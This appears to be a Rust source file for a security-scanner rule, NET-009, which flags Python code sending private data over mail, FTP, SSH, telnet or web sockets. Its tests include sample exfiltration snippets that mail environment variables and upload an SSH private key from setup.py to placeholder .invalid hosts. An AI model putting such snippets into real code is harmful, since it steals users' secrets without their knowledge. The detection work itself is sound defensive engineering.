//! `NET-009`: private data leaves by mail, file transfer, shell or web socket.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{FAR, is_private, sends};
use super::{Rule, in_context, observe_flow};
use crate::python::{Analysis, Flow, Label};

/// The rule.
pub(super) struct OtherChannels;

impl Rule for OtherChannels {
    fn id(&self) -> &'static str {
        "NET-009"
    }

    fn severity(&self) -> Severity {
        Severity::Medium
    }

    fn title(&self) -> &'static str {
        "private data leaves by mail or file transfer"
    }

    fn manual(&self) -> &'static str {
        "Something private, or the content of files, is sent by `smtplib`, `ftplib`, \
         `paramiko`, `telnetlib` or a web socket in code that nobody has asked for.\n\n\
         These channels get past what watches the web, and need no server of one's own.\n\n\
         Mistaken for it: mailers and backup tools, which send what their user tells them \
         to."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let target = &*analysis.sink(flow).target;
            if !sends(flow.kind) || !is_channel(target) || !is_telling(flow) {
                continue;
            }
            let worst = if flow.hops > FAR {
                Severity::Low
            } else {
                Severity::Medium
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(80).in_context(flow.context);
            let message = format!("{target} sends {}", flow.what);
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
    }
}

fn is_channel(target: &str) -> bool {
    let root = target.split('.').next().unwrap_or_default();
    let is_known = matches!(
        root,
        "smtplib"
            | "ftplib"
            | "paramiko"
            | "telnetlib"
            | "websocket"
            | "websockets"
            | "paho"
            | "aiohttp"
    );
    let is_mail = ["?.sendmail", "?.send_message", "?.storbinary"].contains(&target);
    is_mail || is_known && (root != "aiohttp" || target.ends_with("ws_connect"))
}

fn is_telling(flow: &Flow) -> bool {
    is_private(flow.label) || matches!(flow.label, Label::File)
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn private_data_is_followed_into_other_channels() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import os, smtplib\ns = smtplib.SMTP('mail.invalid')\ns.sendmail('a@a.invalid', 'b@b.invalid', str(os.environ))",
            ),
            (
                "setup.py",
                "import ftplib, os\nf = ftplib.FTP('files.invalid')\nf.storbinary('STOR k', open(os.path.expanduser('~/.ssh/id_rsa'), 'rb'))",
            ),
            (
                "demo/__init__.py",
                "import websocket, pyperclip\nw = websocket.create_connection('wss://w.invalid')\nw.send(pyperclip.paste())",
            ),
            (
                "demo/__init__.py",
                "from smtplib import SMTP_SSL as S\nimport socket\nwith S('mail.invalid') as s:\n    s.sendmail('a', 'b', socket.gethostname())",
            ),
        ] {
            found("NET-009", path, code);
        }
    }

    #[test]
    fn mail_that_the_user_writes_is_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import smtplib\ndef mail(text):\n    s = smtplib.SMTP('mail.invalid')\n    s.sendmail('a', 'b', text)",
            ),
            (
                "demo/__init__.py",
                "import smtplib\ns = smtplib.SMTP('mail.invalid')\ns.sendmail('a', 'b', 'hello')",
            ),
            (
                "demo/__init__.py",
                "import ftplib\ndef put(path):\n    ftplib.FTP('files.invalid').storbinary('STOR a', open(path, 'rb'))",
            ),
        ] {
            quiet("NET-009", path, code);
        }
    }
}
